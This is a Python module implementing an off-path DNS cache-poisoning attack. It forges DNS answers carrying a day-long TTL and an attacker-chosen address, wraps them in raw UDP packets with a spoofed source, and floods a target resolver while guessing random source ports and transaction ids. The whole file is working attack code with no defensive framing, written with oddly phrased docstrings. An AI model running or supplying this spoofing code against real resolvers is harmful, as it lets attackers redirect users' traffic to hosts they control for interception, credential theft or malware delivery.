"""Sends answers with the address of another: what an attacker beside the way does who knows the question, and has to guess the rest."""

import random
import socket
import struct

# The octets of an IPv4 header without options, and of a UDP header.
HEADER = struct.Struct("!BBHHHBBH4s4sHHHH")
# Where they have the port to guess, and the id behind them.
PORT_AT, ID_AT = 22, 28
TTL_SECONDS = 86400


def answer(question, address, identifier=0):
    """An answer to a question in wire form: one address, that is to live long."""
    record = struct.pack("!HHHIH4s", 0xC00C, 1, 1, TTL_SECONDS, 4, socket.inet_aton(address))
    return struct.pack("!6H", identifier, 0x8180, 1, 1, 0, 0) + question + record


def packet(source, target, message):
    """A packet of UDP from an address that is not ours; without a checksum, which IPv4 allows."""
    addresses = [socket.inet_aton(address) for address, _ in (source, target)]
    octets = HEADER.size + len(message)
    head = HEADER.pack(0x45, 0, octets, 0, 0, 64, 17, 0, *addresses, source[1], target[1], octets - 20, 0)
    return bytearray(head + message)


class Forger:
    """Has one raw socket; wants root."""

    def __init__(self, source, target):
        self.source, self.target = source, target
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, port, message):
        self.raw.sendto(packet(self.source, (self.target, port), message), (self.target, 0))

    def flood(self, count, ports, questions_of, round_now, address, sent):
        """Sends so many, each with a random port and id, for a question of the round that is on."""
        packets, at = [], None
        for number in range(count):
            if round_now.value != at or not packets:
                at = round_now.value
                packets = [packet(self.source, (self.target, 0), answer(question, address)) for question in questions_of(at)]
            octets = random.choice(packets)
            guess = random.getrandbits(48)
            struct.pack_into("!H", octets, PORT_AT, ports[0] + (guess >> 16) % (ports[1] - ports[0] + 1))
            struct.pack_into("!H", octets, ID_AT, guess & 0xFFFF)
            self.raw.sendto(octets, (self.target, 0))
            if number % 1000 == 999:
                sent.value = number + 1
